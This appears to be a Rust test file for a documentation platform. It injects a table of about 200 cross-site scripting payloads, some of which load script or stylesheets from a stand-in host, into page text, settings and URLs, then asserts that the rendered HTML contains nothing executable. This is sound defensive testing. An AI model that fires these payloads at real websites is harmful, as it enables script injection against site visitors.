//! A table of payloads in every text input. The response is parsed as HTML, as in a browser, and must contain no
//! script, no script URL and no inline style.

use docs_core::model::Styling;
use html5gum::{Token, Tokenizer};
use poem::http::StatusCode;
use serde_json::{Value, json};

use crate::world::World;

/// Sequences that close each context where text occurs, and the empty sequence.
const ENDS: [&str; 10] =
    ["", "\">", "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</code></pre>"];
/// Markup that would execute.
const BODIES: [&str; 20] = [
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
];

pub(crate) fn payloads() -> Vec<String> {
    ENDS.iter().flat_map(|end| BODIES.iter().map(move |body| format!("{end}{body}"))).collect()
}

/// Elements that pages never contain.
const NEVER: [&str; 11] = [
    "iframe", "object", "embed", "base", "style", "frame", "frameset", "applet", "mglyph", "animate",
    "isindex",
];

/// Parses a response as HTML and fails if it contains anything that could execute.
#[track_caller]
pub(crate) fn harmless(html: &str, what: &str) {
    for token in Tokenizer::new(html) {
        let Ok(Token::StartTag(tag)) = token else { continue };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        assert!(!NEVER.contains(&name.as_str()), "{what}: <{name}> in {html}");
        let value = |wanted: &str| {
            let found = tag.attributes.iter().find(|(name, _)| name.as_slice() == wanted.as_bytes());
            found.map(|(_, value)| String::from_utf8_lossy(value).into_owned())
        };
        for (attribute, value) in &tag.attributes {
            let attribute = String::from_utf8_lossy(attribute).into_owned();
            let text = String::from_utf8_lossy(value).trim().to_ascii_lowercase();
            assert!(!attribute.starts_with("on"), "{what}: {attribute} in <{name}>");
            assert!(
                attribute != "style" && attribute != "srcdoc" && attribute != "formaction",
                "{what}: {attribute}"
            );
            let leads = ["href", "src", "action", "data", "poster", "cite"].contains(&attribute.as_str());
            let runs = ["javascript:", "data:", "vbscript:"].iter().any(|scheme| text.starts_with(scheme));
            assert!(!(leads && runs), "{what}: {attribute}={text}");
            assert!(attribute != "http-equiv", "{what}: {text}");
        }
        match name.as_str() {
            "script" => {
                let is_ours = value("src").is_some_and(|src| src.starts_with("/sites/"));
                assert!(
                    is_ours || value("type").as_deref() == Some("application/ld+json"),
                    "{what}: a script in {html}"
                );
            }
            "link" => {
                let is_sheet = value("rel").as_deref() == Some("stylesheet");
                let is_ours = value("href").is_some_and(|href| href.starts_with("/sites/"));
                assert!(!is_sheet || is_ours, "{what}: a sheet of another host");
            }
            "form" => {
                assert!(
                    value("action").is_some_and(|to| to.starts_with("/sites/")),
                    "{what}: a form that leads away"
                );
            }
            _ => {}
        }
    }
}

/// Returns Markdown with a payload as text, in code, in attributes, in URLs, within HTML, and next to Markdown syntax.
pub(crate) fn everywhere(payload: &str) -> String {
    format!(
        "Text {payload}\n\n{payload}\n\n## Head {payload}\n\n`{payload}`\n\n```html\n{payload}\n```\n\n\
         [{payload}](https://a.test/{payload})\n\n![{payload}](https://a.test/x.png \"{payload}\")\n\n\
         $${payload}$$\n\n$$\n\\text{{{payload}}} < \\operatorname{{{payload}}}\n$$\n\n\
         {{% hint style=\"{payload}\" %}}\n{payload}\n{{% endhint %}}\n\n\
         {{% embed url=\"{payload}\" %}}\n{payload}\n{{% endembed %}}\n\n\
         {{% tabs %}}\n{{% tab title=\"{payload}\" %}}\n{payload}\n{{% endtab %}}\n{{% endtabs %}}\n\n\
         {{% code title=\"{payload}\" %}}\n```{payload}\n{payload}\n```\n{{% endcode %}}\n\n\
         | {payload} | b |\n| - | - |\n| {payload} | c |\n\n<details>\n\n<summary>{payload}</summary>\n\n\
         {payload}\n\n</details>\n\nWord[^1]\n\n[^1]: {payload}\n"
    )
}

/// Returns a customization with a payload in every text field.
pub(crate) fn look_of(payload: &str) -> Value {
    let to = json!({ "kind": "url", "url": payload });
    let link = json!({ "title": short(payload, 60), "to": to });
    let address = format!("https://a.test/?{}", payload.replace([' ', '\n'], "+"));
    let both = json!({ "light": address, "dark": address });
    let font = json!({ "id": short(payload, 128), "custom": true, "fontFamily": short(payload, 50),
        "fontFaces": [{ "weight": 400, "sources": [{ "url": address }] }] });
    let mut styling = serde_json::to_value(Styling::default()).expect("JSON");
    styling["font"] = font.clone();
    styling["monospaceFont"] = font;
    json!({
        "styling": styling, "favicon": { "icon": both }, "socialPreview": { "url": address },
        "privacyPolicy": { "url": address },
        "title": short(payload, 50),
        "header": { "preset": "default", "logo": both, "links": [{ "title": payload, "to": to, "links": [] },
            { "title": payload, "to": null, "links": [link] }] },
        "footer": { "logo": both, "groups": [{ "title": payload, "links": [link] }], "copyright": payload },
        "announcement": { "enabled": true, "message": short(payload, 120), "link": link, "style": "info" },
    })
}

/// Truncates `text` to `most` characters, the limit of a field.
pub(crate) fn short(text: &str, most: usize) -> String {
    text.chars().take(most).collect()
}

#[tokio::test]
async fn payloads_in_page_texts_are_harmless_everywhere() {
    let w = World::new().await;
    let space = w.space("Guide").await;
    let all = payloads();
    assert!(all.len() >= 200);
    w.page(&space, "First", "Start.").await;
    for chunk in all.chunks(40) {
        let pages: Vec<_> = chunk
            .iter()
            .map(|payload| {
                let markdown = everywhere(payload);
                json!({ "operation": "insert_page", "title": short(payload, 100), "description": short(payload, 200),
                    "document": { "markdown": markdown } })
            })
            .collect();
        w.edit(&space, json!(pages)).await;
    }
    let (_, path) = w.site("Docs", &space).await;
    w.platform.settle().await.expect("settled");
    let content = w.me().space(&space);
    let content = content.content().list_pages(Default::default()).await.expect("pages");
    let paths: Vec<String> = content
        .pages
        .iter()
        .filter_map(|page| match page {
            docs_core::model::RevisionPage::Document(page) => Some(page.path.clone()),
            _ => None,
        })
        .collect();
    assert!(paths.len() > 200);
    for page in &paths {
        let got = w.get(&format!("{path}{page}")).await;
        assert_eq!(got.status, StatusCode::OK, "{page}");
        harmless(&got.body, page);
    }
    for payload in all.iter().step_by(7) {
        let found = w.get(&format!("{path}~site/search?q={}", written_out(payload))).await;
        harmless(&found.body, payload);
    }
}

fn written_out(payload: &str) -> String {
    percent_encoding::utf8_percent_encode(payload, percent_encoding::NON_ALPHANUMERIC).to_string()
}

#[tokio::test]
async fn payloads_in_settings_and_urls_are_harmless() {
    let w = World::new().await;
    let space = w.space("Guide").await;
    w.page(&space, "First", "Start.").await;
    let (site, path) = w.site("Docs", &space).await;
    for payload in payloads() {
        w.look(&site, look_of(&payload)).await;
        harmless(&w.html(&path).await, &payload);
        let asked = written_out(&payload);
        for at in [
            "~site/icon.svg".to_owned(),
            format!("~site/search?q={asked}"),
            asked.clone(),
            format!("first?x={asked}"),
            format!("~/changes/{asked}"),
        ] {
            harmless(&w.get(&format!("{path}{at}")).await.body, &payload);
        }
    }
}
